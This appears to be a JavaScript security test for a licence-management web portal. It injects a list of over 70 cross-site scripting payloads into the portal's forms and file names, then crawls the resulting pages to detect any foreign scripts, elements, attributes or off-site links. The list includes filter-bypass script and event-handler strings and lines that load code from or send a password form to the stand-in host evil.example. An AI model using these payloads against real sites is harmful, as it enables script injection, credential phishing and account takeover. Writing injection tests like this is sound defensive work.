// Names that are markup: put into every field that takes text, and looked at on every page.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { env } from "node:process";
import { kind, links } from "./crawl.mjs";
import { Machine } from "./machine.mjs";
import { drop, sell } from "./usual.mjs";
import { check, said } from "./visitor.mjs";

export const payloads = [
  `<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<script src=data:,alert(1)></script>`, `<script>alert(1)//`, `</script><script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, `<IMG SRC=x OnErRoR=alert(1)>`, `"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`, `<img src=//evil.example/x.png>`, `<img src="x\`>" onerror=alert(1)>`,
  `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `"><svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><a xlink:href=javascript:alert(1)>x</a>`, `<svg><style><img src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`, `<base href=//evil.example/>`, `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`, `<style>@import'//evil.example/x.css'</style>`, `<style>*{background:url(//evil.example)}</style>`, `<div style=background:url(//evil.example)>`, `<math><mi//xlink:href="javascript:alert(1)">`,
  `<form action=//evil.example><input name=password>`, `<button formaction=//evil.example>Save</button>`, `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `</textarea><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`, `</option></select><img src=x onerror=alert(1)>`, `</dd></dl><script>alert(1)</script>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>`,
  `<a href=javascript:alert(1)>click</a>`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `data:text/html,<script>alert(1)</script>`, `//evil.example/`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`, `x" hx-get="//evil.example" hx-trigger="load`,
  `<div hx-get=//evil.example hx-trigger=load>`, `<div hx-on:htmx:load=alert(1)>`, `<div data-hx-get=/sign-out hx-trigger=load>`, `" onerror="alert(1)" x="`, `{{.Login}}`, `{{"<script>alert(1)</script>"}}`, "${alert(1)}", "`-alert(1)-`", `');alert(1);//`, `\\');alert(1);//`,
  `<!--<script>alert(1)</script>-->`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)`, `%3Cscript%3Ealert(1)%3C/script%3E`, `＜script＞alert(1)＜/script＞`,
  `<template><script>alert(1)</script></template>`, `<noscript><img src=x onerror=alert(1)></noscript>`, `<xss onclick=alert(1) tabindex=1 id=x>`, `<dialog open onclose=alert(1)>`,
];

// post sends a form without leaving the page, and gives the status and what is foreign in the page that comes.
export async function post(v, path, form) {
  return v.page.evaluate(async (path, form) => {
    const w = await fetch(path, { method: "POST", body: new URLSearchParams({ once: crypto.randomUUID(), ...form }) });
    return { status: w.status, at: w.redirected ? w.url : "", ...foreignIn(await w.text()) };
  }, path, form);
}

// look reads a page without leaving the one that is shown.
export async function look(v, path) {
  return v.page.evaluate(async (path) => foreignIn(await (await fetch(path)).text()), path);
}

// watch gives every page the function that finds elements and attributes which no page of the portal has.
export async function watch(v) {
  await v.page.evaluateOnNewDocument(() => {
    const ours = /^(name|value|type|class|id|href|src|action|formaction|method|enctype|for|form|role|lang|charset|content|rel|alt|title|download|list|min|max|minlength|maxlength|step|required|checked|selected|disabled|readonly|multiple|autofocus|autocomplete|placeholder|spellcheck|accept|hidden|open|defer|tabindex|scope|colspan|rowspan|width|height|viewBox|data-passkey|data-make|data-live|data-htmx-powered|font-size|font-family|fill|stroke|(fill|stroke)-[a-z]+|transform|opacity|r|cx|cy|rx|ry|dx|dy|preserveAspectRatio|aria-[a-z]+|hx-(get|trigger|target|select|swap|include)|x|y|x1|y1|x2|y2|points|d|text-anchor|xmlns)$/;
    globalThis.foreignIn = (markup) => {
      const page = typeof markup === "string" ? new DOMParser().parseFromString(markup, "text/html") : markup;
      const wrong = [];
      for (const e of page.querySelectorAll("*")) {
        if (/^(iframe|object|embed|base|math|video|audio|marquee|template|xss|dialog|frame)$/i.test(e.tagName)) wrong.push(e.outerHTML);
        if (e.tagName === "SCRIPT" && !(e.getAttribute("src") ?? "").startsWith("/assets/") || e.tagName === "STYLE") wrong.push(e.outerHTML);
        for (const a of e.attributes) {
          if (!ours.test(a.name)) wrong.push(`${a.name} of ${e.outerHTML}`);
          if (/^(href|src|action|formaction|hx-get)$/.test(a.name) && !/^(\/(?!\/)|#|data:image\/svg\+xml;base64,|data:,|\?)/.test(a.value)) wrong.push(`${a.name} of ${e.outerHTML}`);
        }
      }
      const links = [...page.querySelectorAll("header a[href], main a[href]")].filter((a) => !a.hasAttribute("download")).map((a) => a.getAttribute("href")).filter((p) => p.startsWith("/"));
      return { wrong: wrong.map((w) => w.slice(0, 200)), links };
    };
  });
}

// readAll reads the pages that wait and all that they lead to, but for those of which enough were read, and opens some of each kind. What is foreign in them becomes a fault.
export async function readAll(v, waiting, faults, enough) {
  const seen = new Set(), opened = {};
  let shown = 0;
  for (let path; (path = waiting.shift()) !== undefined;) {
    if (seen.has(path) || /^\/(export|assets|authority)|\/export\.json|\.(csv|json|zip|svg|txt|LHQ|pem)(\?|$)/.test(path)) continue;
    seen.add(path);
    const sort = kind(path);
    opened[sort] = (opened[sort] ?? 0) + 1;
    if (enough(sort, opened[sort])) continue;
    let found;
    if (opened[sort] <= 3) {
      await v.goto(path);
      shown++;
      waiting.push(...await links(v));
      found = await v.page.evaluate(() => foreignIn(document));
    } else {
      found = await look(v, path);
      waiting.push(...found.links);
    }
    for (const e of found.wrong) faults.push(`on ${path}: ${e}`);
  }
  return `${seen.size} pages of ${Object.keys(opened).length} kinds read, ${shown} of them opened`;
}

// clean says what was read, and that nothing in it was foreign.
export function clean(v, read, faults) {
  said(`${read}; ${v.faults.length} dialogs, scripts, policies or requests of others`);
  check(faults.length === 0, `${faults.length} foreign parts:\n${[...new Set(faults)].slice(0, 30).join("\n")}`);
}

export async function hostile(v) {
  check(payloads.length >= 60, "at least 60 payloads");
  await watch(v);
  await v.claim("keller", env.CODE);
  const id = await sell(v, { account: "ACME", product: "Render", model: "Team", kind: "floating", copies: 5 });
  const seats = await sell(v, { account: "ACME", product: "Paint", model: "Person", kind: "fixed-user", copies: 90 });
  const machine = new Machine(1);
  await drop(v, machine.request(id, 1));
  await v.press("Create responses");
  const device = await v.page.$eval("main a[href^='/devices/']", (a) => decodeURIComponent(a.pathname).replace("/devices/", ""));

  const faults = [], taken = {}, refused = {};
  let posts = 0;
  for (const [n, p] of payloads.entries()) {
    const short = p.slice(0, 60); // what is named has at most so many bytes somewhere
    const user = { account: "ACME", user: short };
    for (const [path, form] of [
      ["/accounts/edit", { name: p, contact: p }], ["/accounts/edit", { name: "below " + n, parent: p, contact: p }], ["/products/edit", { name: p, version: "1", features: "render:1=1" }],
      ["/products/edit", { name: "x", version: "1", features: p, parts: p }], ["/models/edit", { name: p, kind: "floating" }], ["/models/edit", { name: "m", kind: p, undo: p, host_types: p, limits: p }],
      ["/items/new", { customer: p, product: p, copies: 2, features: "render:1=1", vendor_string: p, notice: p, serial_number: p }], ["/items/new", { customer: "ACME", product: "Render", product_version: "2026.1", copies: 1, entitlement: p, user: short }],
      [`/items/${id}/suspend`, { reason: p }], [`/items/${id}/resume`, {}], [`/items/${id}/merge`, { into: p }], [`/items/${id}/renew`, { expires: p }], [`/items/${id}/quantity`, { copies: p }], ["/users", user], [`/items/${seats}/assign`, user],
      ["/groups", { group: p, item: id, do: "add" }], ["/groups", { group: p, ...user, do: "add" }], ["/logins", { name: short, role: "viewer" }], ["/logins", { name: "login" + n, subject: "provider " + p, role: p }],
      ["/devices/new", { id: String(n).padStart(64, "A") + "/TPM_EK", name: p, contact: p }], ["/devices/set", { device, name: p + n, contact: p }], ["/devices/map", { device, item: p, copies: p }], ["/devices/move", { device, to: p, item: p }],
      ["/devices/write-off", { device, item: id, reason: p }], ["/inbox", { text: p }], ["/sign-in", { name: p, password: "x", to: p }],
    ]) {
      if (path === "/sign-in" && n > 5) continue; // a few tries are all that anybody has
      const w = await post(v, path, form);
      posts++;
      const sort = path.replace(id, "*").replace(seats, "*");
      (w.status < 400 ? taken : refused)[sort] = ((w.status < 400 ? taken : refused)[sort] ?? 0) + 1;
      if (w.status >= 500) faults.push(`${path} answers ${w.status} to ${p}`);
      for (const e of w.wrong) faults.push(`in the answer to ${path} with ${p}: ${e}`);
    }
  }
  said(`${payloads.length} payloads in ${posts} forms; taken: ${JSON.stringify(taken)}; refused: ${JSON.stringify(refused)}`);
  for (const path of ["/accounts/edit", "/products/edit", "/models/edit", "/items/new", "/users", "/groups", "/logins", "/devices/new", "/devices/set"]) check(taken[path] >= 60, `60 payloads in the book by ${path}, not ${taken[path]}`);
  const named = payloads.map((p, n) => { // names of files are a sender's words too
    const file = join(env.SCRATCH, p.replace(/[/\0]/g, "_").slice(0, 80));
    writeFileSync(file, "no request " + n);
    return file;
  });
  await drop(v, ...named.slice(0, 60));

  // Every page is read, and some of each kind are opened, as are all lists.
  const lists = payloads.flatMap((p) => ["/items?q=", "/users?group=", "/group?name=", "/account?name=", "/user?account=ACME&name="].map((at) => at + encodeURIComponent(p)));
  const read = await readAll(v, ["/inbox", "/waiting", ...lists], faults, (sort, n) => sort === "/audit/*" && n > 100);
  await v.goto("/inbox");
  await v.shot("inbox");
  await v.goto("/accounts");
  await v.shot("accounts");
  clean(v, read, faults);
}
